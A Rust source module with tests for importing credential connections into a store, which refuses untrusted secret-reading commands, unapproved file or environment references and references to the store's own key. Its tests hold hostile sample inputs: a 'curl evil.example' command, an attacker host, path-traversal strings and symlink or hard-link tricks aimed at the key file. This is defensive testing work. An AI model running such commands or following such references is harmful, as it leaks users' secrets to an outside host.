//! Takes connections into a store, all of them or none: from an export, or from the manifest of a Zoho extension.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use rainwright_connections::store::{Put, Store};
use rainwright_connections::{
    Catalogue, Connection, Environment, Key, Reference, Secret, Status, Subject, UnixTime, manifest, name,
};
use rainwright_diagnostic::{Code, Problem};

use super::export;

/// What becomes of a connection whose name is taken.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Clash {
    /// Nothing is imported.
    #[default]
    Refuse,
    /// It takes the place of the one that is there.
    Replace,
    /// The one that is there stays.
    Skip,
}

/// How connections are imported.
#[derive(Clone, Debug, Default)]
pub struct ImportOptions {
    /// The set that all of them go to; otherwise each goes where it came from.
    pub environment: Option<Environment>,
    /// What becomes of a connection whose name is taken.
    pub clash: Clash,
    /// Whether a connection may bring a command that is run to read a secret.
    pub commands: bool,
    /// What connections may bring references to: files, folders with all that is in them, and `env:NAME`.
    pub references: Vec<String>,
    /// Where the key of this store is, which nothing may be read from.
    pub own_key: Option<PathBuf>,
    /// Whether to store nothing and only report what would be stored.
    pub dry_run: bool,
}

/// What was, or would be, done with a connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Fate {
    /// There was none of that name.
    Added,
    /// It took the place of the one that was there.
    Replaced,
    /// The one that was there stays.
    Skipped,
}

/// One connection of an import.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Imported {
    /// What it is stored under.
    pub key: Key,
    /// What was done with it.
    pub fate: Fate,
    /// Its status: a draft is still to be authorised.
    pub status: Status,
    /// The places outside that its secrets are read from.
    pub references: Vec<Reference>,
}

/// The connections of a file: an export (see [`export::read`]), or a manifest, whose connections become drafts.
///
/// `subject` is whose those connections of a manifest are that each user authorises; `now` is when drafts are made.
///
/// # Errors
/// [`Code::CannotParse`] or [`Code::StoreProblem`] when the file is neither; [`Code::UnknownService`].
pub fn read(
    file: &[u8],
    identities: Option<&Secret>,
    catalogue: &Catalogue,
    subject: &Subject,
    now: UnixTime,
) -> Result<Vec<Connection>, Problem> {
    let text = match std::str::from_utf8(file) {
        Ok(text) if !export::is_encrypted(file) && text.contains("connectionLinkName") => text,
        _ => {
            let connections = export::read(file, identities)?;
            for connection in &connections {
                catalogue.of(connection)?;
            }
            return Ok(connections);
        }
    };
    let user = match subject {
        Subject::Shared => None,
        Subject::User(user) => Some(user.as_str()),
    };
    let entries = manifest::read(text)?;
    entries.iter().map(|entry| Ok(entry.draft(&*entry.find_service(catalogue)?, user, now))).collect()
}

/// Puts connections into a store, all of them or none. Blocks.
///
/// # Errors
/// [`Code::StoreProblem`] when a name is taken or comes twice, a connection brings a command that is not allowed, or the
/// store cannot be written; [`Code::BadRequest`] for a bad name. Nothing was imported then.
pub fn import(
    store: &dyn Store,
    mut connections: Vec<Connection>,
    options: &ImportOptions,
) -> Result<Vec<Imported>, Problem> {
    let mut keys = BTreeSet::new();
    for connection in &mut connections {
        name::check(&connection.name)?;
        if let Some(environment) = &options.environment {
            connection.environment = environment.clone();
        }
        let key = connection.key();
        if let (false, Some(command)) = (options.commands, command_of(connection)) {
            let message = format!("\"{key}\" reads a secret from the command `{command}`; nothing was imported.");
            return Err(Problem::new(Code::StoreProblem, message).with_help(
                "It is run whenever the connection is used. If you trust it, import with `--allow-commands`.",
            ));
        }
        check_references(connection, options)?;
        if !keys.insert(key.clone()) {
            let message = format!("\"{key}\" comes twice; nothing was imported.");
            return Err(Problem::new(Code::StoreProblem, message)
                .with_help("Take one of them out, or give their environments other names."));
        }
    }
    loop {
        let fates = connections.iter_mut().map(|c| fate(store, c, options.clash)).collect::<Result<Vec<_>, _>>()?;
        let mut taken: Vec<Connection> = Vec::with_capacity(connections.len());
        let mut imported = Vec::with_capacity(connections.len());
        for (connection, fate) in connections.iter().zip(fates) {
            imported.push(Imported {
                key: connection.key(),
                fate,
                status: connection.status,
                references: connection.references.values().cloned().collect(),
            });
            if fate != Fate::Skipped {
                taken.push(connection.clone());
            }
        }
        if options.dry_run || store.put_all(&mut taken)? == Put::Stored {
            return Ok(imported);
        }
    }
}

/// What to do with a connection, which gets the revision that it is stored over.
fn fate(store: &dyn Store, connection: &mut Connection, clash: Clash) -> Result<Fate, Problem> {
    let key = connection.key();
    let stored = store.rev(&key)?;
    connection.rev = stored.unwrap_or(0);
    match (stored, clash) {
        (None, _) => Ok(Fate::Added),
        (Some(_), Clash::Replace) => Ok(Fate::Replaced),
        (Some(_), Clash::Skip) => Ok(Fate::Skipped),
        (Some(_), Clash::Refuse) => {
            let message = format!("There is already a connection \"{key}\"; nothing was imported.");
            Err(Problem::new(Code::StoreProblem, message).with_help(
                "Import with `--replace` to put the new one in its place, or with `--skip` to keep the old one.",
            ))
        }
    }
}

/// Checks the places that a connection of somebody else's file wants its secrets read from: a file of this user's, sent as
/// a key to a host that the file names, would be given away.
fn check_references(connection: &Connection, options: &ImportOptions) -> Result<(), Problem> {
    let key = connection.key();
    // What goes to hosts that the file itself names is looked at more closely.
    let names_hosts = connection.service_toml.is_some() || !connection.allowed_hosts.is_empty();
    for reference in connection.references.values() {
        let (what, allowed) = match reference {
            Reference::Command(_) => continue,
            Reference::Env(name) if name.to_ascii_uppercase().starts_with("RAINWRIGHT_") => {
                let message =
                    format!("\"{key}\" reads a secret from {name}, which is this program's own; nothing was imported.");
                return Err(Problem::new(Code::StoreProblem, message).with_help("Take the connection out of the file."));
            }
            Reference::Env(name) if names_hosts => {
                (format!("env:{name}"), options.references.contains(&format!("env:{name}")))
            }
            Reference::Env(_) => continue,
            Reference::File(path) => {
                let real = real_path(Path::new(path));
                let is_own = |own: &Path| real_path(own) == real || is_same_file(own, Path::new(path));
                if real.is_some() && options.own_key.as_deref().is_some_and(is_own) {
                    let message = format!("\"{key}\" reads a secret from the store's own key; nothing was imported.");
                    return Err(
                        Problem::new(Code::StoreProblem, message).with_help("Take the connection out of the file.")
                    );
                }
                let allowed = options.references.iter().filter_map(|allowed| real_path(Path::new(allowed)));
                let allowed = real.is_some_and(|real| allowed.into_iter().any(|allowed| real.starts_with(allowed)));
                (path.clone(), allowed)
            }
        };
        if !allowed {
            let message = format!("\"{key}\" reads a secret from {what}; nothing was imported.");
            return Err(Problem::new(Code::StoreProblem, message).with_help(format!(
                "It is read whenever the connection is used. If that is meant, import with `--allow-references {what}`."
            )));
        }
    }
    Ok(())
}

/// Whether two names are of one file, as hard links are.
#[cfg(unix)]
fn is_same_file(a: &Path, b: &Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    let id = |path: &Path| path.metadata().map(|meta| (meta.dev(), meta.ino())).ok();
    id(a).is_some_and(|a| id(b) == Some(a))
}

/// Whether two names are of one file; elsewhere than on Unix their paths say so.
#[cfg(not(unix))]
fn is_same_file(_: &Path, _: &Path) -> bool {
    false
}

/// A path without links and detours, also of a file that is not there yet; `None` when it cannot be told.
fn real_path(path: &Path) -> Option<PathBuf> {
    let absolute = std::path::absolute(path).unwrap_or_else(|_| path.to_owned());
    for (depth, above) in absolute.ancestors().enumerate() {
        if let Ok(real) = above.canonicalize() {
            let rest: PathBuf = absolute.components().skip(above.components().count()).collect();
            let climbs = rest.components().any(|part| part == std::path::Component::ParentDir);
            return match (depth, climbs) {
                (0, _) => Some(real),
                (_, true) => None,
                (_, false) => Some(real.join(rest)),
            };
        }
    }
    None
}

fn command_of(connection: &Connection) -> Option<&str> {
    connection.references.values().find_map(|reference| match reference {
        Reference::Command(command) => Some(command.as_str()),
        Reference::Env(_) | Reference::File(_) => None,
    })
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use rainwright_connections::store::MemoryStore;

    fn connection(name: &str) -> Connection {
        Connection { name: name.into(), service: "openai".into(), ..Connection::default() }
    }

    fn with(clash: Clash) -> ImportOptions {
        ImportOptions { clash, ..ImportOptions::default() }
    }

    #[test]
    fn an_import_takes_all_or_nothing() {
        let folder = tempfile::tempdir().unwrap();
        let key = crate::store::KeySource::File(folder.path().join("key"));
        let sqlite = crate::store::SqliteStore::open(folder.path(), key).unwrap();
        for store in [&MemoryStore::new() as &dyn Store, &sqlite] {
            let only = import(store, vec![connection("b")], &ImportOptions::default()).unwrap();
            assert_eq!(only[0].fate, Fate::Added);
            for refused in [["a", "b"], ["c", "c"], ["d", "Bad"]] {
                import(store, refused.map(connection).to_vec(), &ImportOptions::default()).unwrap_err();
                assert_eq!(store.list().unwrap().len(), 1, "nothing is stored");
            }
            // The second was stored by somebody else meanwhile: the first is not stored either.
            let mut stale = [connection("a"), connection("b")];
            assert_eq!(store.put_all(&mut stale).unwrap(), Put::Conflict);
            assert_eq!(stale.map(|c| c.rev), [0, 0]);
            assert_eq!(store.list().unwrap().len(), 1);

            let new = || vec![connection("a"), Connection { label: "new".into(), ..connection("b") }];
            let fates = |clash, dry_run| {
                let done = import(store, new(), &ImportOptions { dry_run, ..with(clash) }).unwrap();
                done.into_iter().map(|one| one.fate).collect::<Vec<_>>()
            };
            assert_eq!(fates(Clash::Replace, true), [Fate::Added, Fate::Replaced]);
            assert_eq!(store.list().unwrap().len(), 1, "a dry run stores nothing");
            assert_eq!(fates(Clash::Skip, false), [Fate::Added, Fate::Skipped]);
            let labels = || store.list().unwrap().into_iter().map(|c| c.label).collect::<Vec<_>>();
            assert_eq!(labels(), ["", ""]);
            assert_eq!(fates(Clash::Replace, false), [Fate::Replaced, Fate::Replaced]);
            assert_eq!(labels(), ["", "new"]);
        }
    }

    #[test]
    fn an_import_may_go_to_another_environment() {
        let store = MemoryStore::new();
        let production = Environment::parse("production").unwrap();
        let options = ImportOptions { environment: Some(production.clone()), ..ImportOptions::default() };
        import(&store, vec![connection("a")], &ImportOptions::default()).unwrap();
        let done = import(&store, vec![connection("a")], &options).unwrap();
        assert_eq!(done[0].key, Key::shared("a").within(production.clone()));
        let both = vec![connection("b"), Connection { environment: production, ..connection("b") }];
        assert!(import(&store, both, &options).unwrap_err().message.contains("comes twice"));
        assert_eq!(store.list().unwrap().len(), 2);
    }

    #[test]
    fn a_file_from_somebody_else_runs_no_command_unasked() {
        let store = MemoryStore::new();
        let mut one = connection("a");
        one.references.insert("api_key".into(), Reference::Command("curl evil.example".into()));
        let problem = import(&store, vec![one.clone()], &ImportOptions::default()).unwrap_err();
        assert!(
            problem.message.contains("curl evil.example") && problem.help().contains("--allow-commands"),
            "{problem}"
        );
        assert!(store.list().unwrap().is_empty());
        let done = import(&store, vec![one], &ImportOptions { commands: true, ..ImportOptions::default() }).unwrap();
        assert_eq!(done[0].references.len(), 1);
    }

    #[test]
    fn a_file_from_somebody_else_reads_no_file_unasked() {
        let folder = tempfile::tempdir().unwrap();
        let path = |name: &str| folder.path().join(name).display().to_string();
        std::fs::write(path("key"), "k").unwrap();
        std::fs::create_dir(path("team")).unwrap();
        let options = |references: &[String]| ImportOptions {
            references: references.to_vec(),
            own_key: Some(path("key").into()),
            ..ImportOptions::default()
        };
        let fate = |reference: Reference, options: &ImportOptions, own_hosts: bool| {
            let mut one = connection("a");
            one.references.insert("api_key".into(), reference);
            if own_hosts {
                one.allowed_hosts.push("evil.example".into());
            }
            import(&MemoryStore::new(), vec![one], options).map(|_| ()).map_err(|problem| problem.message)
        };
        let file = |name: &str| Reference::File(path(name));
        assert!(fate(file("team/token"), &options(&[]), false).unwrap_err().contains("team/token"));
        fate(file("team/token"), &options(&[path("team")]), false).unwrap();
        fate(file("team/token"), &options(&[path("team/token")]), false).unwrap();
        for other in ["team/../other", "teammate", "team/../../x", "team/missing/../../x"] {
            assert!(fate(file(other), &options(&[path("team")]), false).is_err(), "{other}");
        }
        for own in ["key", "team/../key"] {
            let problem = fate(file(own), &options(&[path("")]), false).unwrap_err();
            assert!(problem.contains("own key"), "{problem}");
        }
        #[cfg(unix)]
        {
            std::os::unix::fs::symlink(path("key"), path("team/link")).unwrap();
            std::fs::hard_link(path("key"), path("team/twin")).unwrap();
            for name in ["team/link", "team/twin"] {
                assert!(fate(file(name), &options(&[path("team")]), false).unwrap_err().contains("own key"), "{name}");
            }
        }
        let env = |name: &str| Reference::Env(name.into());
        fate(env("CRM_KEY"), &options(&[]), false).unwrap();
        fate(env("RAINWRIGHT_KEY"), &options(&["env:RAINWRIGHT_KEY".into()]), false).unwrap_err();
        fate(env("CRM_KEY"), &options(&[]), true).unwrap_err();
        fate(env("CRM_KEY"), &options(&["env:CRM_KEY".into()]), true).unwrap();
    }

    #[test]
    fn manifests_become_drafts_and_unknown_services_are_named() {
        let manifest =
            br#"{"connectors": [{"connectionLinkName": "crm", "connectionName": "CRM", "serviceName": "zoho_crm",
            "userAccess": true, "isUserDefinedService": false, "scope": ["ZohoCRM.modules.ALL"]}]}"#;
        let catalogue = Catalogue::shipped();
        let read_for = |subject: Subject| read(manifest, None, &catalogue, &subject, 7).unwrap().remove(0);
        assert_eq!(read_for(Subject::Shared).key(), Key::shared("crm"));
        let own = read_for(Subject::User("ada".into()));
        assert_eq!((own.key(), own.status, own.created_at), (Key::user("crm", "ada"), Status::Draft, 7));
        let unknown = export::references(&[Connection { service: "no_such".into(), ..connection("a") }]).unwrap();
        let problem = read(unknown.as_bytes(), None, &catalogue, &Subject::Shared, 0).unwrap_err();
        assert_eq!(problem.code, Code::UnknownService);
        let neither = read(b"hello", None, &catalogue, &Subject::Shared, 0).unwrap_err();
        assert!(neither.message.contains("cannot be read"), "{neither}");
    }
}
